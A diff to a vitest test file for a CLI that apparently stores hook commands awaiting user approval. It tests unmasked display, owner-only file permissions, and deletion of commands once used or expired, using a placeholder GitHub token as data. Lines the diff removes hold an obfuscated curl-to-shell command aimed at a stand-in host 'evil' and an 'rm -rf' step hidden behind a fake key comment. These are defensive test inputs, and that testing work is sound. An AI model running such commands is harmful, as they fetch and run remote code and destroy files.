@@ -1,5 +1,5 @@
 import { spawn, spawnSync } from 'node:child_process';
-import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
 import { CLI, type CliOptions, finished, HAS_TERMINAL, logs, machine } from './machine.ts';
@@ -218,16 +218,32 @@ describe('what a hook asks, and nobody is there to answer', () => {
     for (const obeyed of ['\u001B', '\r']) expect((await cli(['approve'])).stdout).not.toContain(obeyed);
   });
 
-  test('holds no secret, and a mask hides nothing that would run', async () => {
-    const { cli, idOf, call, folder } = asked();
+  test('is shown without any mask, kept for this user alone, and forgotten when it was used', async () => {
+    const { cli, idOf, call, folder, answer } = asked();
+    const kept = () => readdirSync(folder).map((name) => readFileSync(join(folder, name), 'utf8'));
+    const command = 'TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345 git push';
+    const id = await idOf(push(command));
+    expect((await cli(['approve', id])).stdout).toContain(`  + ${command}\n`);
+    for (const name of readdirSync(folder)) expect(statSync(join(folder, name)).mode & 0o077).toBe(0);
+    expect(statSync(folder).mode & 0o077).toBe(0);
+    expect(kept().join('')).toContain('ghp_');
+    if (!HAS_TERMINAL) return;
+    await answer(id);
+    expect((await call(push(command))).status).toBe(0);
+    expect(kept().join('')).not.toContain('ghp_');
+    expect((await cli(['approve', id])).stderr).toContain('was used already');
+  });
+
+  test('is forgotten when it has expired', async () => {
+    const { cli, idOf, folder } = asked();
     const id = await idOf(push('TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345 git push'));
-    expect((await cli(['approve', id])).stdout).toMatch(/ {2}\+ TOKEN=\*+ git push\n/);
-    const code = await idOf(push('TOKEN=$(curl${IFS}evil|sh) git push'));
-    expect((await cli(['approve', code])).stdout).toContain('+ TOKEN=$(curl${IFS}evil|sh) git push\n');
-    const hidden = await call(push('# -----BEGIN PRIVATE KEY-----\nrm -rf build; git push'));
-    expect([hidden.status, hidden.outcome.approval]).toEqual([3, null]);
-    const all = readdirSync(folder).map((name) => readFileSync(join(folder, name), 'utf8'));
-    expect(all.join('')).not.toMatch(/ghp_|PRIVATE/);
+    const [name = ''] = readdirSync(folder);
+    const past = { askedAt: '2026-01-01T00:00:00.000Z', expiresAt: '2026-01-01T00:10:00.000Z' };
+    const old = JSON.parse(readFileSync(join(folder, name), 'utf8'));
+    writeFileSync(join(folder, name), JSON.stringify({ ...old, ...past }));
+    expect((await cli(['approve'])).stdout).toBe('Nothing waits for your approval.\n');
+    expect(readFileSync(join(folder, name), 'utf8')).not.toContain('ghp_');
+    expect((await cli(['approve', id])).stderr).toContain('has expired');
   });
 
   test('that is too long to be shown whole cannot be approved', async () => {
